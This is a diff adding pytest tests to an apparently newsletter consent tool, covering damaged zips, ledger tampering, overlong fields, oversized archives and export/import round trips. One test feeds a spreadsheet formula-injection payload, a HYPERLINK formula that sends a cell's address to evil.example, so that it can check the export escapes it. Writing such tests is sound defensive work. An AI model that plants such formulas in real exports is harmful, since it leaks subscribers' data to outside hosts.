@@ -11,16 +11,19 @@ import zipfile
 from pathlib import Path
 
 import pytest
+import sqlalchemy
 from sqlalchemy import func, select
 
+from optin.config import current_settings
 from optin.consent import ledger
+from optin.consent.addresses import address_hash
 from optin.extensions import db
 from optin.models import AuditEntry, ConsentEvent, JobState, Subscription, Suppression
-from optin.privacy import wording
+from optin.privacy import imports, wording
 from optin.privacy.import_rows import ImportRow
 from optin.privacy.imports import IMPORTED, KNOWN, SUPPRESSED, WITHDRAWN, Known, decide
 
-from ..conftest import ADMIN_TOKEN
+from ..conftest import ADMIN_TOKEN, deliver, links
 from .test_document import english_left
 
 MC_HEADER = ["Email Address", "First Name", "Last Name", "Company", "MEMBER_RATING", "OPTIN_TIME",
@@ -580,3 +583,204 @@ def test_an_unknown_encoding_is_an_error_message_not_a_traceback(app, runner, ne
     assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
     assert "unknown encoding" in result.output and "Traceback" not in result.output
     assert counts(app) == (0, 0, 0)
+
+
+def _damage(path: Path, how: str) -> None:
+    """Make the zip ``path`` (one member, stored) encrypted, compressed by a method zipfile
+    lacks, damaged inside its data, or cut short, as a broken download or a hostile file is."""
+    data = bytearray(path.read_bytes())
+    central = data.find(b"PK\x01\x02")
+    if how == "encrypted":
+        data[6] |= 1
+        data[central + 8] |= 1
+    elif how == "unsupported method":
+        data[8:10] = data[central + 10:central + 12] = (98).to_bytes(2, "little")  # PPMd
+    elif how == "bad crc":
+        at = data.find(b"m19@example.org")
+        data[at] = ord("n")
+    elif how == "cut short":
+        data = data[:central - 40] + data[central:]
+    path.write_bytes(bytes(data))
+
+
+@pytest.mark.parametrize("how", ["encrypted", "unsupported method", "bad crc", "cut short"])
+def test_a_damaged_or_encrypted_zip_is_refused_with_a_message_not_a_traceback(
+        app, runner, newsletter, tmp_path, monkeypatch, how):
+    """Each of these ended the import in a traceback (RuntimeError, NotImplementedError,
+    BadZipFile, OSError). The file is refused before anything is imported: counting its
+    lines reads every byte, so a bad CRC at the end of a member is found first too."""
+    monkeypatch.chdir(tmp_path)
+    path = tmp_path / "members_export.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("subscribed_members_export.csv",
+                         mc_csv([mc_member(f"m{i}@example.org") for i in range(20)]))
+    _damage(path, how)
+    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter",
+                                 "--batch", "5"])
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
+    assert "cannot be read" in result.output and "export it again" in result.output
+    assert counts(app) == (0, 0, 0)
+
+
+def test_an_address_that_withdrew_and_consented_again_keeps_its_consent_through_export_and_import(
+        app, runner, client, newsletter, confirmed, tmp_path, monkeypatch):
+    """The export wrote the withdrawn record first, the import recorded that withdrawal and
+    then called the newer consent (confirmed here after it) "suppressed": the subscriber
+    was lost on the way to another list or instance."""
+    monkeypatch.chdir(tmp_path)
+    unsubscribe = confirmed("again@example.org")
+    assert client.post(unsubscribe, data={"List-Unsubscribe": "One-Click"}).status_code == 200
+    confirmed("again@example.org")
+    out = tmp_path / "export.csv"
+    result = invoke(runner, "export", "--list", "newsletter", "--output", str(out))
+    assert result.exit_code == 0 and "2 subscriptions" in result.output, result.output
+    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
+    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
+                  "--text", "Ja, bitte.").exit_code == 0
+    again = invoke(runner, "import", "csv", str(out), "--list", "other")
+    assert "imported (consent with its evidence, marked as imported): 1" in again.output, again.output
+    assert "already known (nothing changed): 1" in again.output
+    with app.app_context():
+        other = db.session.scalars(select(Subscription)
+                                   .where(Subscription.mailing_list.has(slug="other"))).all()
+        assert [s.status for s in other] == ["confirmed"]
+        assert db.session.scalar(select(func.count()).select_from(Suppression)) == 0
+
+
+def test_the_export_runs_no_formula_in_a_spreadsheet_and_still_reads_back_exactly(
+        app, runner, client, newsletter, mailbox, tmp_path, monkeypatch):
+    """A visitor's user agent (or name) like ``=HYPERLINK("https://…?"&A2;"…")`` was written
+    as it came: opened in a spreadsheet it is a formula, here one that sends the address in
+    the row's first cell away. Every cell that starts like a formula gets a ``'`` (text to a
+    spreadsheet), which the import takes off again."""
+    monkeypatch.chdir(tmp_path)
+    hostile = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    response = client.post("/v1/subscriptions", headers={"User-Agent": hostile}, json={
+        "email": "+tag@example.org", "list": "newsletter", "consent_text_version": 1,
+        "first_name": "=1+1", "last_name": "'-x"})
+    assert response.status_code == 202
+    deliver(app)
+    confirm = links(mailbox.to("+tag@example.org")[-1])["confirm"]
+    assert client.post(confirm, headers={"User-Agent": "@SUM(1)"}).status_code == 303
+    out = tmp_path / "export.csv"
+    assert invoke(runner, "export", "--list", "newsletter", "--output", str(out)).exit_code == 0
+    (row,) = csv.DictReader(out.open(encoding="utf-8"))
+    cells = [v for v in row.values() if v]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+    assert row["optin_signup_user_agent"] == "'" + hostile and row["email"] == "'+tag@example.org"
+    assert row["last_name"] == "''-x"
+    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
+    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
+                  "--text", "Ja, bitte.").exit_code == 0
+    again = invoke(runner, "import", "csv", str(out), "--list", "other")
+    assert "imported (consent with its evidence, marked as imported): 1" in again.output
+    with app.app_context():
+        back = db.session.scalar(select(Subscription).where(
+            Subscription.mailing_list.has(slug="other")))
+        assert (back.email, back.first_name, back.last_name) == ("+tag@example.org", "=1+1", "'-x")
+
+
+def test_an_imported_consents_address_swapped_in_its_row_is_caught(app, runner, newsletter,
+                                                                  tmp_path, monkeypatch):
+    """The imported consent's ledger named no address, so another address and its keyed
+    hash written into the row verified as intact: the import records the address as a
+    signup does, and verify holds the row to it."""
+    monkeypatch.chdir(tmp_path)
+    path = mc_zip(tmp_path / "e.zip", [mc_member("ada@example.org")])
+    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
+    with app.app_context():
+        digest = address_hash("mallory@example.org", current_settings().hash_key)
+        db.session.execute(Subscription.__table__.update().values(email="mallory@example.org",
+                                                                  email_hash=digest))
+        db.session.commit()
+    result = runner.invoke(args=["ledger", "verify"])
+    assert result.exit_code == 1 and "its address is not the one its event #1" in result.output
+
+
+def test_an_overlong_value_rejects_its_row_instead_of_going_into_the_ledger(
+        app, runner, newsletter, tmp_path, monkeypatch):
+    """The CSV reader takes fields up to 1 MB, and every evidence column was kept as
+    given: a 280 KB zip of 150 rows with a 900,000-character "IP" put 270 MB into the
+    ledger (for good), and a batch of 5,000 such rows would be gigabytes in memory."""
+    monkeypatch.chdir(tmp_path)
+    path = tmp_path / "members_export.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("subscribed_members_export.csv", mc_csv([
+            mc_member("huge@example.org", OPTIN_IP="1" * 900_000),
+            mc_member("name@example.org", **{"First Name": "A" * 3_000}),
+            mc_member("fine@example.org", LEID="9" * 2_000)]))
+    report = tmp_path / "rejected.csv"
+    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter",
+                    "--report", str(report))
+    assert "imported (consent with its evidence, marked as imported): 1" in result.output
+    assert "rejected (see the report file): 2" in result.output
+    reasons = [r["reason"] for r in csv.DictReader(report.open(encoding="utf-8"))]
+    assert reasons == ["OPTIN_IP holds 900000 characters, more than 2000: not imported",
+                       "first_name holds 3000 characters, more than 2000: not imported"]
+    assert list(subs(app)) == ["fine@example.org"]
+    with app.app_context():
+        longest = max(len(json.dumps(e.details)) for e in db.session.scalars(select(ConsentEvent)))
+    assert longest < 10_000
+
+
+def test_a_zip_of_thousands_of_members_is_refused_at_once(app, runner, newsletter, tmp_path,
+                                                          monkeypatch):
+    """Each member was opened through a fresh read of the zip's directory, several times: a
+    430 KB zip of 3,000 one-row CSVs took 27 s of CPU to check its headers and as long again
+    to count, quadratic in the members. An export holds a few CSVs; more than 100 files is
+    refused before any is read."""
+    monkeypatch.chdir(tmp_path)
+    path = tmp_path / "members_export.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        for i in range(101):
+            archive.writestr(f"subscribed_{i}.csv", f"Email Address\nm{i}@example.org\n")
+    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter"])
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
+    assert "holds 101 files, more than 100" in result.output
+    assert counts(app) == (0, 0, 0)
+
+
+def test_a_bounce_that_withdrew_nothing_does_not_make_a_later_unsubscribe_cleaned(
+        ac_newsletter, ac_app, runner, client, confirmed, tmp_path, monkeypatch):
+    """ActiveCampaign's bounce is recorded without withdrawing; the export then called the
+    subscriber's own later unsubscribe "cleaned", and the import made it a bounce."""
+    monkeypatch.chdir(tmp_path)
+    unsubscribe = confirmed("bounce@example.org")
+    assert client.post("/webhooks/activecampaign?secret=webhook-secret-0123456789", data={
+        "type": "bounce", "list": "1", "contact[email]": "bounce@example.org",
+        "bounce[type]": "soft"}).status_code == 200
+    assert client.post(unsubscribe, data={"List-Unsubscribe": "One-Click"}).status_code == 200
+    out = tmp_path / "export.csv"
+    assert invoke(runner, "export", "--list", "newsletter", "--output", str(out)).exit_code == 0
+    (row,) = csv.DictReader(out.open(encoding="utf-8"))
+    assert (row["status"], row["optin_withdrawal_channel"]) == ("unsubscribed", "one_click")
+
+
+def test_ctrl_c_inside_a_statement_still_says_where_to_resume(app, runner, newsletter, tmp_path,
+                                                             monkeypatch):
+    """Ctrl-C that lands while PostgreSQL is mid-statement leaves a connection that cannot
+    roll back: the rollback's OperationalError replaced the KeyboardInterrupt, and the
+    command ended in a traceback (seen once in the real-process test under load)."""
+    monkeypatch.chdir(tmp_path)
+    path = tmp_path / "subscribed_members_export.csv"
+    path.write_text(mc_csv([mc_member(f"int{i}@example.org") for i in range(30)]))
+    write, rollback, calls = imports._Writer._write, db.session.rollback, []
+
+    def interrupted(self, pending, summary):
+        calls.append(1)
+        if len(calls) == 2:
+            raise KeyboardInterrupt
+        return write(self, pending, summary)
+
+    def broken_rollback():
+        if len(calls) == 2 and not getattr(broken_rollback, "done", False):
+            broken_rollback.done = True
+            raise sqlalchemy.exc.OperationalError("ROLLBACK", None, Exception("in progress"))
+        return rollback()
+
+    monkeypatch.setattr(imports._Writer, "_write", interrupted)
+    monkeypatch.setattr(db.session, "rollback", broken_rollback)
+    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter",
+                                 "--batch", "10"])
+    assert result.exit_code == 130, result.exception
+    assert "interrupted: 10 rows committed" in result.output
